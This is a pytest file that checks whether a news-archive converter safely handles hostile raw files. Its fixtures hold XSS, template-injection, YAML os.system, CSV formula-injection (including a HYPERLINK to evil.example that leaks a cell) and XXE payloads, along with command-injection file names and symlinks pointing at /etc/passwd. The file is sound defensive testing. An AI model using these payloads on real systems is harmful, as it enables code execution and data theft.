"""Hostile raw files, all in one archive: each is a correct page or a reported refusal, and the good ones stand.

A page is correct when its text, parsed out of the HTML, is what stood in the raw file, character for character.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
import yaml
from selectolax.lexbor import LexborHTMLParser

from backfile import conversion, intake, rules
from backfile.site.report import BuildReport
from tests.archive import Archive, tree

OPENING = "The pier at Ostvik was opened again on Friday after a winter of repairs, the harbour board said."
CLOSING = "The ferries will sail twice a day until the end of September, according to the board."


@dataclass(frozen=True)
class Case:
    """A raw file. body: the paragraphs of its page, in order. refused: part of the reason, where it has no page."""

    name: str
    data: bytes
    title: str | None = None
    body: tuple[str, ...] = ()
    refused: str = ""

    def with_data(self, change: Callable[[bytes], bytes]) -> Case:
        """The same page out of other bytes."""
        return replace(self, data=change(self.data))


def story(title: str, *paragraphs: str, day: str = "March 2, 2012") -> str:
    """A raw article whose shape every reader of news knows: house, headline, date, text."""
    return "\n\n".join(("Northwire", title, day, OPENING, *paragraphs, CLOSING)) + "\n"


def shown(name: str, *paragraphs: str, title: str = "", day: str = "March 2, 2012", encoding: str = "utf-8") -> Case:
    """A raw file whose page shows these paragraphs between opening and closing."""
    title = title or f"Pier Opens Again, Says Board in Note {name.partition('.')[0].title()}"
    text = story(title, *paragraphs, day=day)
    return Case(name, text.encode(encoding), title, (OPENING, *(" ".join(p.split()) for p in paragraphs), CLOSING))


def encoded_twice(data: bytes) -> bytes:
    """What becomes of UTF-8 that is taken for cp1252; its five undefined bytes stay themselves, as browsers do it."""
    return "".join(
        bytes((b,)).decode("cp1252" if b not in b"\x81\x8d\x8f\x90\x9d" else "latin-1") for b in data
    ).encode()


MARKDOWN = (
    "# The first sign on the pier says Welcome to all who come by sea.",
    "#Ostvik was the word that was painted on every crate in the shed.",
    "* One star stands at the beginning of this sentence and means nothing.",
    "- A hyphen stands at the beginning of this one, and a list it is not.",
    "+ A plus stands here, since the board counted one ferry more than before.",
    "1. The first rule of the pier is that nobody runs on the planks of it.",
    "1986. That was a great year for the ferries, the oldest of the captains said.",
    "2) The second rule is that nobody fishes from the steps on the north side.",
    "> The quoted line of an old letter begins with a sign of its own, he said.",
    "The board paid *twice* what _it_ had **planned** and __said__ so ~~never~~ at all.",
    "The snake_case_name of the ferry and 2*3*4 crates stayed what they were then.",
    "A link [to nowhere](https://nowhere.example/a) and a picture ![of it](x.png) stand here.",
    "[note]: https://nowhere.example/b 'a definition that defines nothing at all here'",
    "The address <https://nowhere.example/c> and https://nowhere.example/d were both given.",
    "The `code` of the port and ``two ` ticks`` were written on the door of the office.",
    "~~~ The fence of the old yard had three waves on it, and nobody knew why it did.",
    "``` The ticks of the clock were three, the keeper of the light wrote in his book.",
    "| the first column | the second | of a table that is only a line of text here |",
    "A backslash \\ here, an escaped \\* star, and one at the end of a sentence too.\\",
    "The firm of Hart & Sons, also &c., paid 3&4 & more; AT&T and R&D; too, said the board.",
    "A note[^1] and a task [x] were on the list, said the keeper, and {.class #id} as well.",
    "Two  spaces   and no-break spaces stood in the line, the printer of it said.",
)

CODE = "The `code` of the port and the sign of the year were written on the door of the office."
LATIN = "Smørbrød für alle, sagte Zoë, die naïve Köchin — “so viel Brot” für 5 Kronen am Tag."
EMOJI = "The flags \U0001f6a2⚓\U0001f1f3\U0001f1f4 flew over the pier of Ostvik all day, the board said."
# Without its joiners a word of Persian or Hindi is misspelt, and a family falls into three people.
JOINERS = "می\u200cخواهم and क्\u200dष and \U0001f468\u200d\U0001f469\u200d\U0001f467 stood on the sign, the board said."
ARABIC = "أعيد افتتاح رصيف الميناء يوم الجمعة بعد أعمال ترميم استمرت طوال الشتاء، حسبما قال مجلس الميناء."
CHINESE = "港务局周五表示，经过一个冬天的维修，奥斯特维克码头重新开放。"
LONG = " ".join(["Harbour Board Says Ostvik Pier Will Open Again"] * 11)[:500].strip()
MILLION = 1_000_000
WORDS = "The pier was opened again on Friday and the ferries sail twice a day, the board said. "
LINE = WORDS * (10 * MILLION // len(WORDS))

PAGES = (
    shown(
        "script.txt",
        "<script>alert(document.cookie)</script> stood in the note of the board, the clerk said.",
        "The board had <b>bold</b> plans, <img src=x onerror=alert(1)> and </p></div></article></body></html> as well.",
        "<!-- A comment of the clerk was printed --> and <![CDATA[ the data of it ]]> <?php echo 1 ?> too, she said.",
        "<div> was the word that stood alone at the beginning of the line that the clerk wrote.",
    ),
    shown(
        "jinja.txt",
        "The total of {{ 7*7 }} crates was given as {{ config }} by the clerk, who counted {# none #} of them.",
        "{% raw %}The raw figures were 49{% endraw %} and {% include '/etc/passwd' %} stood below them, he said.",
        "{{ ''.__class__.__mro__[1].__subclasses__() }} was the name of the ferry in the old book of ferries.",
        "{filename}/../secret.md and {static}/x and |filename|y were the words on the last crate of all.",
        "The fare was ${7*7} or #{7*7} or <%= 7*7 %>, which the keeper of the light could not work out.",
    ),
    shown(
        "fence-inside.txt",
        "--- title: the pier is not the title of it, and status: draft is none of it, the clerk said.",
        "... The dots that end a document of the clerks stood above this line of the note, he said.",
        "key: value pairs were what the board wrote: the pier, 12 planks; the shed, no roof: none at all.",
        "!!python/object/apply:os.system ['touch pwned'] was what the new clerk had typed there on Monday.",
        "&anchor *alias and << merge stood there too, which the old clerk took for a riddle of the new one.",
    ),
    shown("markdown.txt", *MARKDOWN),
    shown(
        "links.txt",
        "[Read on](javascript:alert(1)) was printed there, and <a href='javascript:alert(2)'>more</a> below it.",
        "The address data:text/html;base64,PHNjcmlwdD4= and javascript:alert(3) were read out at the meeting.",
        "![x](data:image/svg+xml,<svg onload=alert(4)>) stood on the poster, and <javascript:alert(5)> under it.",
    ),
    shown("utf8-bom.txt", LATIN, encoding="utf-8-sig"),
    shown("utf16-le.txt", LATIN, encoding="utf-16-le"),
    shown("utf16-be.txt", LATIN, encoding="utf-16-be"),
    shown("utf16-bom.txt", LATIN, encoding="utf-16"),
    shown("utf32-bom.txt", LATIN, encoding="utf-32"),
    shown("cp1252.txt", LATIN, encoding="cp1252"),
    shown("latin.txt", "Der Fährmann sagte, die Brücke über die Förde käme später.", encoding="latin-1"),
    shown("crlf.txt", LATIN).with_data(lambda data: data.replace(b"\n", b"\r\n")),
    shown("cr.txt", LATIN).with_data(lambda data: data.replace(b"\n", b"\r")),
    shown("mojibake.txt", LATIN).with_data(encoded_twice),
    shown("nul.txt", CODE).with_data(lambda data: data.replace(b" sign", b" \0sign").replace(b"port ", b"port\0\0 ")),
    shown("controls.txt", CODE).with_data(
        lambda data: data.replace(b" sign", b"\x07 \x1bsign").replace(b"port ", b"port\x7f \x08\xc2\x9b\x01")
    ),
    shown("emoji.txt", EMOJI, title="\U0001f6a2⚓\U0001f1f3\U0001f1f4 \U0001f389"),
    shown("joiners.txt", JOINERS),
    shown("arabic.txt", ARABIC, title="رصيف الميناء يفتح من جديد بعد الشتاء"),
    shown("chinese.txt", CHINESE, title="奥斯特维克码头重新开放"),
    shown("twice/a.txt", "The first of the two notes was written by the clerk.", title="Ferry Fares to Rise in May"),
    shown("twice/b.txt", "The second of the two notes was written by the board.", title="Ferry Fares to Rise in May"),
)

# Their pages hold every word of them; which of the words are headline and date is for the tests of conversion to say.
WHOLE = {
    "front-matter.txt": f"---\ntitle: Another\nslug: ../../../x\nstatus: draft\n---\n\n{story('Pier Note', CODE)}",
    "fence-alone.txt": story("Pier Opens Again, Says Board", "---", CODE, "***", CODE + " Twice.", "..."),
    "long-headline.txt": story(LONG, CODE),
    "only-arabic.txt": f"{ARABIC}\n\n{ARABIC} مرة أخرى.\n",
    "only-chinese.txt": f"奥斯特维克码头重新开放\n\n{CHINESE}\n\n{CHINESE}\n",
    "only-emoji-headline.txt": f"\U0001f6a2\U0001f389\n\n{OPENING}\n\n{CLOSING}\n",
    "one-word.txt": "Pier",
    "ten-megabytes.txt": LINE,
    "bidi.txt": story("Pier Opens ‮niaga‬ Today", "The board ‮said so‬ and ⁦went⁩ home."),
    "unclosed.html.txt": "<html><body><p>" + story("Pier Opens Again, Says Board", CODE),
    "lying-counts.txt": "\n".join(
        f"\n\n                            {n} of {of} DOCUMENTS\n\n\n                    The Ostvik Gazette\n\n"
        f"                    March {n + 1}, 2012 Friday\n\nPier Note {word} of the Harbour Board\n\n"
        f"BYLINE: Ada Lindqvist\n\nLENGTH: 999999 words\n\nNote {word}. {OPENING}\n\n{CLOSING}\n\n"
        for n, of, word in ((1, 500, "Eins"), (7, 2, "Zwei"), (3, 0, "Drei"))
    ),
    "factiva-lies.txt": f"Pier Opens Again\n\n0 words\n2 March 2012\nThe Ostvik Gazette\n\n{OPENING}\n\n{CLOSING}\n\n"
    "Document OSTGAZ0020120302e832000ab\n\nFerry Sails Again\n999,999 words\n3 March 2012\nThe Ostvik Gazette\n"
    f"\n{CODE}\n",
}

TABLES = {
    "formulas.csv": "title,date,body\n"
    '"=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",2012-03-05,"=1+1 was the sum of it. ' + OPENING + '"\n'
    '"+cmd|\' /C calc\'!A0",2012-03-06,"@SUM(1+1)*cmd was the word for it. ' + OPENING + '"\n'
    '"-2+3 Ferries Sail",2012-03-07,"-1 degrees was what they had. ' + OPENING + '"\n',
    "fields.jsonl": "\n".join(
        json.dumps({"headline": title, "date": "2012-03-08", "text": f"{OPENING}\n\n{body}"})
        for title, body in (
            (LONG, CODE),
            ("x" * 500, CODE),
            ("\U0001f6a2\U0001f389", EMOJI),
            ("رصيف الميناء يفتح من جديد", ARABIC),
            ("码头重新开放", CHINESE),
            ("A \x00 NUL\x01 and \x1b a tab\tand \u2028 in the headline", "B \x00 \x07 and here."),
            ("A lone surrogate \ud800 here", "And \udfff in the text of it."),
        )
    ),
}
"""Titles and bodies that a container states: the page has them exactly, blanks folded."""

SPOKEN = {
    "formulas.csv": (
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', "=1+1 was the sum of it."),
        ("+cmd|' /C calc'!A0", "@SUM(1+1)*cmd was the word for it."),
        ("-2+3 Ferries Sail", "-1 degrees was what they had."),
    ),
    "fields.jsonl": (
        (LONG, CODE),
        ("x" * 500, CODE),
        ("\U0001f6a2\U0001f389", EMOJI),
        ("رصيف الميناء يفتح من جديد", ARABIC),
        ("码头重新开放", CHINESE),
        ("A NUL and a tab and in the headline", "and here."),
        ("A lone surrogate \ufffd here", "And \ufffd in the text of it."),
    ),
}

REFUSED = {
    "empty.txt": (b"", "empty"),
    "blank.txt": (b" \n\t\n\r\n \xc2\xa0\n", "no visible text"),
    "only-marks.txt": (b"\xef\xbb\xbf", "no visible text"),
    "only-nul.txt": (b"\0" * 5000, "binary|no visible text"),
    "only-signs.txt": (b"***\n---\n===\n", "no word"),
    "picture.txt": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 20, "JPEG"),
    "picture.html": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "PNG"),
    "noise.txt": (bytes((i * 7919 + i // 13) % 256 for i in range(20_000)), "binary"),
    "zip.csv": (b"PK\x03\x04" + bytes(200), "zip"),
    "deep.json": (b"[" * 200_000, "nested too deep"),
    "deep-objects.jsonl": (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "nested too deep"),
    "deep-closed.json": (b"[" * 100_000 + b"]" * 100_000, "nested too deep"),
    "broken.json": (b'{"headline": "Pier", "text": "cut o', "broken JSON"),
    "number.json": (b"9" * 100_000, "not an object"),
    "no-body.jsonl": (b'{"headline": "Pier"}\n', "text"),
    "empty-list.json": (b"[]", "empty"),
    "header-only.csv": (b"title,body\n", "nothing below"),
    "open-quote.csv": (b'title,body\n"Pier","never closed\n', "quotation mark"),
    "no-columns.csv": (b"=cmd|' /C calc'!A0,=1+1\n1,2\n", "header row"),
    "divs.html": (b"<html><body>" + b"<div>" * 60_000 + b"Pier", "nest|deep|tangled"),
}

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<DOC><HEADLINE>Pier &lol9; Opens</HEADLINE><TEXT><P>{OPENING} &xxe; &lol9;</P></TEXT></DOC>
"""

NAMES: tuple[bytes, ...] = (
    b"x..txt",
    b"a b.txt",
    b" lead and trail .txt",
    b"-rf",
    b"--help.txt",
    b"new\nline.txt",
    b"tab\tand\x01control\x1b[31m.txt",
    b"caf\xe9.txt",
    b"caf\xc3\xa9.txt",
    b"cafe\xcc\x81.txt",
    b"\xff\xfe.txt",
    b"n" * 251 + b".txt",
    ("長" * 83).encode() + b".txt",
    b"con.txt",
    b"index.txt",
    b"%2e%2e%2fx.txt",
    b"a?b#c&d=e.txt",
    b"back\\slash.txt",
    b"x\\..\\..\\y.txt",
    b"~root.txt",
    b"$(touch pwned).txt",
    b"`touch pwned`;.txt",
    b"<script>alert(1)<%2Fscript>.txt",
    b"\"><img src=x onerror=alert(1)>'.txt",
    b"{{ 7*7 }}{% raw %}.txt",
    b"javascript:alert(1).txt",
    b"no-suffix",
    b"NOTE.TXT",
    b"note.txt.",
    b"note.exe",
    b"\xe2\x80\xae" + b"txt.exe.txt",
    b"\xf0\x9f\x9a\xa2.txt",
    b"page/index/1/page/2.txt",
    b"a.txt/b.txt",
)


def named(number: int) -> str:
    """The text of the raw file with this name."""
    return story(f"Pier Note Number {number} From the Board", f"Note {number} was filed under a name of its own.")


@dataclass(frozen=True)
class Built:
    """The archive after its one build."""

    archive: Archive
    report: BuildReport
    pages: dict[tuple[str, int], LexborHTMLParser]
    also: set[str]

    def page(self, name: str, record: int = 0) -> LexborHTMLParser:
        """The page of a raw record."""
        return self.pages[name, record]

    def reason(self, name: str) -> str:
        """Why a raw file was refused."""
        assert self.report.conversion is not None
        return "; ".join(r.reason for r in self.report.conversion.refused if r.path == name)


def put(archive: Archive) -> None:
    """Lay every hostile file into the raw folder."""
    raw = archive.content / "raw"
    for case in PAGES:
        archive.raw(case.name, case.data)
    for name, text in {**WHOLE, **TABLES, "laughs.sgml": LAUGHS.replace("{OPENING}", OPENING)}.items():
        archive.raw(name, text)
    for name, (data, _) in REFUSED.items():
        archive.raw(name, data)
    for number, name in enumerate(NAMES):
        path = os.path.join(os.fsencode(raw / "names"), name)  # noqa: PTH118 - a Path holds no such bytes
        os.makedirs(os.path.dirname(path), exist_ok=True)  # noqa: PTH103, PTH120
        with open(path, "wb") as file:  # noqa: PTH123
            file.write(named(number).encode())
    archive.raw("the-same.txt", PAGES[0].data)
    outside = archive.home / "secret.txt"
    outside.write_text(story("Secret Note Outside the Folder", "The password of the clerk is swordfish."))
    (raw / "out.txt").symlink_to(outside)
    (raw / "out").symlink_to(archive.home)
    (raw / "up.txt").symlink_to("../../secret.txt")
    (raw / "loop").symlink_to(raw)
    (raw / "dangling.txt").symlink_to(raw / "nothing.txt")
    (raw / "self.txt").symlink_to("self.txt")
    (raw / "the-link.txt").symlink_to("script.txt")
    (raw / "passwd.txt").symlink_to("/etc/passwd")
    os.mkfifo(raw / "pipe.txt")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    archive = Archive(tmp_path_factory.mktemp("hostile") / "archive")
    put(archive)
    report = archive.build()
    pages: dict[tuple[str, int], LexborHTMLParser] = {}
    also: set[str] = set()
    for name, text in archive.markdown().items():
        front = yaml.safe_load(text.split("\n---\n", 1)[0].removeprefix("---\n"))
        folder = str(front["date"])[:10].replace("-", "/") if "date" in front else "undated"
        key = (front["raw"]["file"], int(front["raw"].get("record", 0)))
        assert key not in pages, f"{name} is the second article of {key}"
        pages[key] = archive.html(f"{folder}/{front['slug']}.html")
        also.update(entry["file"] for entry in front.get("also") or ())
    return Built(archive, report, pages, also)


def words(text: str) -> list[str]:
    return re.findall(r"[^\W_]+", text)


def body(page: LexborHTMLParser) -> tuple[str, ...]:
    return tuple(" ".join(p.text().split()) for p in page.css(".body p[id], .body h2"))


def heading(page: LexborHTMLParser) -> str:
    node = page.css_first("h1")
    assert node is not None
    return " ".join(node.text().split())


@pytest.mark.parametrize("case", PAGES, ids=lambda case: case.name)
def test_the_page_says_what_the_raw_file_said(built: Built, case: Case) -> None:
    page = built.page(case.name)
    assert body(page) == case.body
    assert heading(page) == case.title
    assert page.css_first('.meta time[datetime="2012-03-02"]') is not None


@pytest.mark.parametrize("name", [*WHOLE, "laughs.sgml"])
def test_every_word_of_the_raw_file_is_on_its_page_or_in_a_named_discard(built: Built, name: str) -> None:
    """What is not shown is a discard with the name of its rule."""
    raw = built.archive.content / "raw" / name
    articles = intake.read(name, raw.read_bytes()).articles
    assert articles
    for record in articles:
        article = conversion.convert(record, rules.load(None))
        left_out = [record.text[z.start : z.end] for z in article.zones if z.kind == "discard" and z.rule]
        page = built.page(name, record.record)
        story_node = page.css_first("article.story")
        assert story_node is not None
        labels = {"BYLINE", "March", "title"}  # the page says By, and the month may be a figure
        stated = labels | set(words(" ".join(left_out)))
        assert set(words(record.text)) - set(words(story_node.text(separator=" "))) - stated == set()
        assert body(page) == tuple(" ".join(p.text.split()) for p in article.paragraphs)


def test_front_matter_in_a_raw_file_is_text(built: Built) -> None:
    page = built.page("front-matter.txt")
    assert OPENING in body(page)
    assert not any(name.endswith("/x.html") for name in built.archive.files())


@pytest.mark.parametrize("name", TABLES)
def test_declared_titles_and_texts_are_shown_exactly(built: Built, name: str) -> None:
    for record, (title, said) in enumerate(SPOKEN[name]):
        page = built.page(name, record)
        assert heading(page) == title
        assert said in " ".join(body(page))


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_article_is_refused_with_its_reason(built: Built, name: str) -> None:
    assert re.search(REFUSED[name][1], built.reason(name)), built.reason(name)
    assert not any(file == name for file, _ in built.pages)


def test_links_out_of_the_folder_are_refused_and_not_read(built: Built) -> None:
    for name in ("out.txt", "out", "up.txt", "passwd.txt"):
        assert "leads out" in built.reason(name)
    assert "leads nowhere" in built.reason("dangling.txt")
    assert built.reason("self.txt")
    assert "pipe" in built.reason("pipe.txt")
    everything = b"".join(built.archive.files().values())
    assert b"swordfish" not in everything
    assert b"root:x:0" not in everything


def test_names_of_any_bytes_are_told_apart_and_shown(built: Built) -> None:
    shown_under = {heading(page): file for (file, _), page in built.pages.items() if file.startswith("names/")}
    assert [n for n in range(len(NAMES)) if f"Pier Note Number {n} From the Board" not in shown_under] == []
    for title, file in shown_under.items():
        page = next(p for (f, _), p in built.pages.items() if f == file)
        assert heading(page) == title
        assert file in [" ".join(dd.text().split(" ")).strip() for dd in page.css(".provenance dd")]
    assert len(set(shown_under.values())) == len(NAMES)
    assert not any(re.search("[\x00-\x1f\x7f-\x9f\ud800-\udfff]", file) for file in shown_under.values())


def test_nothing_was_written_outside_and_nothing_ran(built: Built) -> None:
    assert sorted(p.name for p in built.archive.home.iterdir()) == [".backfile", "content", "output", "secret.txt"]
    assert list(built.archive.home.rglob("pwned")) == []
    assert not Path("pwned").exists()


def test_every_raw_file_is_a_page_or_provenance_or_a_refusal(built: Built) -> None:
    assert built.report.conversion is not None
    refused = {refusal.path for refusal in built.report.conversion.refused}
    known = {file for file, _ in built.pages} | built.also | refused
    on_disk = [
        os.path.relpath(os.path.join(folder, name), os.fsencode(built.archive.content / "raw"))  # noqa: PTH118
        for folder, _, names in os.walk(os.fsencode(built.archive.content / "raw"))
        for name in names
        if not name.startswith(b".")
    ]
    unaccounted = {name.decode("utf-8", "backslashreplace") for name in on_disk} - known
    # Names that no text can hold are shown otherwise; each of their files has its page, as another test says.
    assert {name for name in unaccounted if not name.startswith("names/")} == set()
    assert {"the-same.txt", "the-link.txt"} <= built.also | {file for file, _ in built.pages}
    lines = "\n".join(built.report.lines())
    assert all(name in lines for name in refused)
    assert all(refusal.mend for refusal in built.report.conversion.refused)


def test_no_refusal_is_a_fault_of_ours(built: Built) -> None:
    assert built.report.conversion is not None
    assert [r for r in built.report.conversion.refused if "fault of Backfile" in r.mend] == []
    assert built.report.refusals == []


def test_every_page_is_clean_text(built: Built) -> None:
    """UTF-8, no control character, no element or attribute that a raw file brought."""
    for name, data in built.archive.files().items():
        if not name.endswith((".html", ".atom", ".xml")):
            continue
        text = data.decode("utf-8")
        assert re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", text) is None, name
        if name.endswith(".html"):
            page = LexborHTMLParser(text)
            assert (
                page.css("img, svg:not(.bars), iframe, object, embed, style, base, b, script:not([src]):not([type])")
                == []
            )
            assert not page.css("[onerror], [onload], [style]")


def test_a_second_build_changes_nothing(built: Built) -> None:
    before = tree(built.archive.output)
    markdown = built.archive.markdown()
    report = built.archive.build()
    assert report.committed.written == ()
    assert report.conversion is not None and report.conversion.written == 0
    assert tree(built.archive.output) == before
    assert built.archive.markdown() == markdown
    first = built.report.conversion
    assert first is not None
    assert report.conversion.refused == first.refused
